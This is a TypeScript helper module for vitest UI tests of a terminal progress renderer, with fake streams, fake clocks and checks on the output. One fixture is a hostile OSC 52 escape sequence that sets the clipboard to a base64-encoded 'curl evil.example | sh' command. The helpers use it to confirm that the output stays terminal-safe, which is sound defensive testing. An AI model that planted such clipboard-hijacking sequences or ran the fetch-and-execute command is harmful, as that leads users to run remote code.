/** Helpers the UI tests share: fake streams and clocks, renderer output, frozen fixtures. */
import { PassThrough } from 'node:stream';
import stripAnsi from 'strip-ansi';
import { afterEach, beforeEach, expect, vi } from 'vitest';
import type { ProgressMode, ProgressRendererOptions, ProgressStreams } from '../../../src/ui/render-progress.js';

/** A stream, and everything written to it so far. */
export function capturedStream() {
  const stream = new PassThrough();
  const chunks: string[] = [];
  stream.on('data', (chunk: Buffer) => chunks.push(chunk.toString('utf8')));
  return { stream, output: () => chunks.join('') };
}

/** A captured stream that says it is a terminal of the given size. */
export function fakeTerminal(size: { columns: number; rows: number } = { columns: 80, rows: 30 }) {
  const { stream, output } = capturedStream();
  return { stream: Object.assign(stream, { isTTY: true, ...size }), output };
}

type RendererFactory<E> = (
  mode: ProgressMode,
  streams: ProgressStreams,
  options?: ProgressRendererOptions,
) => { sink: (event: E) => void; close(): Promise<void> };

/** Everything a renderer wrote to a 120-column fake terminal for the events, once closed. */
export async function renderedOutput<E>(
  create: RendererFactory<E>,
  mode: ProgressMode,
  events: readonly E[],
  options: ProgressRendererOptions = {},
): Promise<string> {
  const { stream, output } = fakeTerminal({ columns: 120, rows: 40 });
  const renderer = create(mode, { stderr: stream }, options);
  for (const event of events) renderer.sink(event);
  await renderer.close();
  return output();
}

/**
 * Closes a tty renderer under fake timers and checks that closing twice gives the same promise
 * and that an event after close draws nothing, then or a second later. Returns the text lines of
 * everything written, the final frame last.
 */
export async function closeForGood<E>(
  renderer: { sink: (event: E) => void; close(): Promise<void> },
  terminal: { output: () => string },
  renders: () => number,
  lateEvent: E,
): Promise<string[]> {
  const closed = renderer.close();
  expect(renderer.close()).toBe(closed);
  vi.useRealTimers();
  await closed;

  const rendersAtClose = renders();
  const written = terminal.output();
  renderer.sink(lateEvent);
  await new Promise((resolve) => setTimeout(resolve, 1200));
  expect(renders()).toBe(rendersAtClose);
  expect(terminal.output()).toBe(written);
  return stripAnsi(written).trimEnd().split('\n');
}

/**
 * The output is the events as JSON lines, every line ending in a newline, with no raw control
 * character (escape sequences stay escaped inside the JSON strings).
 */
export function expectJsonLines(output: string, events: readonly unknown[]): void {
  expect(output).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/);
  const lines = output.split('\n');
  expect(lines.at(-1)).toBe('');
  expect(lines.slice(0, -1).map((line) => JSON.parse(line) as unknown)).toEqual(events);
}

/** Hostile terminal input: OSC 52 sets the clipboard (here to `curl evil.example | sh`). */
export const OSC52_CLIPBOARD = '\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007';
export const CLEAR_SCREEN = '\u001b[2J';

/** Nothing in the output that a terminal would act on: no OSC, no clear-screen, no BEL, no 8-bit CSI. */
export function expectTerminalSafe(output: string): void {
  expect(output).not.toContain('\u001b]');
  expect(output).not.toContain('Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==');
  expect(output).not.toContain(CLEAR_SCREEN);
  expect(output).not.toContain('\u0007');
  expect(output).not.toContain('\u009b');
}

/**
 * Fake timers for the enclosing describe, and a clock (ms) to pass as the renderer's: `advance`
 * moves both, `moveClock` only the clock (time passes, no timer fires).
 */
export function useFakeClock(): { now: () => number; advance: (ms: number) => void; moveClock: (ms: number) => void } {
  let clock = 0;
  beforeEach(() => {
    clock = 0;
    vi.useFakeTimers({ toFake: ['setTimeout', 'clearTimeout', 'setInterval', 'clearInterval'] });
  });
  afterEach(() => {
    vi.useRealTimers();
  });
  return {
    now: () => clock,
    advance: (ms) => {
      clock += ms;
      vi.advanceTimersByTime(ms);
    },
    moveClock: (ms) => {
      clock += ms;
    },
  };
}

/** Folds the events one by one from a deep-frozen state, checking no state or event is mutated. */
export function expectPureFold<S, E>(fold: (state: S, event: E) => S, initial: S, events: readonly E[]): void {
  let state = deepFreeze(initial);
  for (const event of events) {
    const before = JSON.stringify(state);
    const next = fold(state, deepFreeze(event));
    expect(JSON.stringify(state)).toBe(before);
    expect(next).not.toBe(state);
    state = deepFreeze(next);
  }
}

/** Freezes a value and everything it holds, so a test notices any mutation (it throws in strict mode). */
function deepFreeze<T>(value: T): T {
  if (value !== null && typeof value === 'object' && !Object.isFrozen(value)) {
    Object.freeze(value);
    for (const child of Object.values(value)) deepFreeze(child);
  }
  return value;
}
